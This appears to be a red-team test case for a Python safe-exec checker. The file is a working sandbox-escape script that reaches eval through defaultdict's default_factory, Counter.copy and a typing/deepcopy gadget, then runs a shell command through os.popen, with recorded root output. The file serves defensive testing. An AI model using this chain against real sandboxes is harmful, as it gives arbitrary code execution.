# expect: reject unbound
# line: 22
# verified: reaches its goal under plain python3 (3.11) in a temp dir (eval obtained, id ran)
# why: thirteenth red team (third round), family D: a class-holding attribute (default_factory) read by name hands out the library class it holds

# Mechanism: defaultdict's factory is an allowed place for a library class (rule unbound), and '.default_factory' is treated as a library class on any receiver only when spelled as an attribute node; read BY NAME it is a clean value: operator.attrgetter('default_factory')(dd)
# Goal reached: the builtin type by value (Counter.copy(P)), then eval by value (typing._GenericAlias + deepcopy, 11b family A end gadget), called: runs id
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD b170093
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

dd = collections.defaultdict(collections.Counter)   # json-free: a factory the rules allow (defaultdict's factory)
import operator
K = operator.attrgetter("default_factory")(dd)      # K is collections.Counter, read by attrgetter
T = K.copy(P)                                       # Counter.copy(P) -> P.__class__(P) -> builtin type
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))   # 11b family A end gadget
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
